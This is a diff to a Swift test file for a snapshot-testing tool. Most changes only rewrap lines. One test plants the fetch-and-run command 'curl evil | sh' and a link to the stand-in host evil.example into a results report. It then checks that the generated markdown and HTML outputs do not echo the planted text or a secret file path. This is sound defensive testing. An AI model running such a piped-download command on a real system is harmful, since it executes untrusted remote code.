@@ -207,12 +207,19 @@ import Testing
   @Test func `an approval that finds no room changes no reference`() throws {
     let program = try program(changed: ["a", "b"])
     #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
-    let before = try (program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"), program.bytes("refs/V.a.9x9.png"))
+    let before = try (
+      program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"),
+      program.bytes("refs/V.a.9x9.png")
+    )
     // No file may become longer than nothing, as on a full disk.
     let full = try program.start(
-      ["snapshot", "approve", "refs", "snapshot-results"], shell: "trap '' XFSZ; ulimit -f 0").finish()
+      ["snapshot", "approve", "refs", "snapshot-results"], shell: "trap '' XFSZ; ulimit -f 0"
+    ).finish()
     #expect(full.exitCode != 0)
-    let after = try (program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"), program.bytes("refs/V.a.9x9.png"))
+    let after = try (
+      program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"),
+      program.bytes("refs/V.a.9x9.png")
+    )
     #expect(before == after)
     #expect(try program.run("snapshot", "approve", "refs", "snapshot-results").exitCode == 0)
     #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 0)
@@ -241,18 +248,24 @@ import Testing
     #expect(try secret.run("render", "Secret.swift", "--size", "30x30", "-o", "out").exitCode == 0)
     let path = secret.folder.appendingPathComponent("out/Secret.s.30x30.png").path
     var report = try program.text("snapshot-results/report.json")
-    report = report.replacing("fittingroom snapshot approve", with: "curl evil | sh\\n```\\n[x](http://evil.example)")
+    report = report.replacing(
+      "fittingroom snapshot approve", with: "curl evil | sh\\n```\\n[x](http://evil.example)")
     for kind in ["reference", "actual", "difference"] {
       report = report.replacing(try Regex("\"\(kind)\": ?\"[^\"]*\""), with: "\"\(kind)\": \"\(path)\"")
     }
     try program.write(report, to: "snapshot-results/report.json")
     let merged = try program.run(
-      "snapshot", "merge", "snapshot-results", "--markdown", "comment.md", "--html", "page.html", "--references", "refs")
+      "snapshot", "merge", "snapshot-results", "--markdown", "comment.md", "--html", "page.html",
+      "--references", "refs")
     #expect(merged.exitCode == 1)
     for text in try [merged.output, program.text("comment.md"), program.text("page.html")] {
-      #expect(!text.contains("curl evil") && !text.contains("evil.example") && !text.contains(path), "\(text.prefix(2000))")
+      #expect(
+        !text.contains("curl evil") && !text.contains("evil.example") && !text.contains(path),
+        "\(text.prefix(2000))")
     }
-    #expect(merged.output.contains("to accept: fittingroom snapshot approve 'refs' 'snapshot-results' 'V.a.9x9'"), "\(merged)")
+    #expect(
+      merged.output.contains("to accept: fittingroom snapshot approve 'refs' 'snapshot-results' 'V.a.9x9'"),
+      "\(merged)")
     // No small copy is one of a picture of another size.
     for name in try program.files(in: "page-thumbnails") where name.hasSuffix(".png") {
       #expect(try program.pixelSize("page-thumbnails/\(name)") != [30, 30])
